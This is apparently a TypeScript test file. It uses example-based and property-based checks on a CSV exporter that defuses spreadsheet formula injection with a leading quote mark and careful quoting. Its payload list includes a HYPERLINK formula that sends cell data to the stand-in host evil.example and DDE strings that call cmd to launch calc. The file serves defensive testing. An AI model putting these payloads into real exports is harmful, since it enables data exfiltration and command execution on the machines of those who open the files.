import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { FORMULA_TRIGGERS, csvCell, csvDocument, neutraliseCell } from '../../src/core/csv-cell.ts';

/** How a spreadsheet (or any RFC 4180 reader) reads the cells back. */
const readBack = (text: string): string[][] =>
  parse(text, { relax_column_count: true, record_delimiter: '\r\n' });

/** The characters of a CSV document that are not inside a quoted cell. */
const outsideQuotes = (text: string): string => {
  let outside = '';
  let quoted = false;
  for (const c of text) {
    if (c === '"') quoted = !quoted;
    else if (!quoted) outside += c;
  }
  return outside;
};

const dangerous = (cell: string) => FORMULA_TRIGGERS.some((c) => cell.startsWith(c));

describe('CSV cells a spreadsheet cannot run', () => {
  it('prefixes every cell that starts with = + - @, tab or CR with a quote mark', () => {
    const payloads = [
      '=HYPERLINK("https://evil.example/?"&A1,"Klik hier")',
      '+1+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    for (const payload of payloads) expect(neutraliseCell(payload)).toBe(`'${payload}`);
    expect(
      readBack(
        csvDocument(
          ['value'],
          payloads.map((p) => [p]),
        ),
      ).slice(1),
    ).toEqual(payloads.map((p) => [`'${p}`]));
  });

  it('quotes quotes, commas, semicolons, tabs and line breaks', () => {
    expect(csvCell('a "b", c')).toBe('"a ""b"", c"');
    expect(csvCell('Lean; in de zorg')).toBe('"Lean; in de zorg"');
    expect(csvCell('regel 1\nregel 2')).toBe('"regel 1\nregel 2"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('An Peeters')).toBe('An Peeters');
  });

  it('lets no cell start with a dangerous character, whatever the values', () => {
    const value = fc.oneof(
      fc.string({
        unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', ' '),
      }),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(fc.array(value, { minLength: 1, maxLength: 5 }), { maxLength: 5 }), (rows) => {
        const text = csvDocument(['a', 'b', 'c', 'd', 'e'], rows);
        for (const cells of readBack(text)) for (const cell of cells) expect(dangerous(cell)).toBe(false);
        // A spreadsheet that splits on semicolons (the Flemish default) finds none outside quotes, so it
        // cannot cut a cell into pieces that start with `=`.
        expect(outsideQuotes(text)).not.toMatch(/[;\t]|\r(?!\n)|(?<!\r)\n/);
      }),
    );
  });

  it('keeps harmless values as they are, and dangerous ones with one quote mark in front', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const width = Math.max(...rows.map((r) => r.length));
          const padded = rows.map((r) => [...r, ...Array<string>(width - r.length).fill('')]);
          const back = readBack(
            csvDocument(
              padded[0]!.map((_, i) => `c${i}`),
              padded,
            ),
          ).slice(1);
          expect(back).toEqual(padded.map((r) => r.map((v) => (dangerous(v) ? `'${v}` : v))));
        },
      ),
    );
  });
});
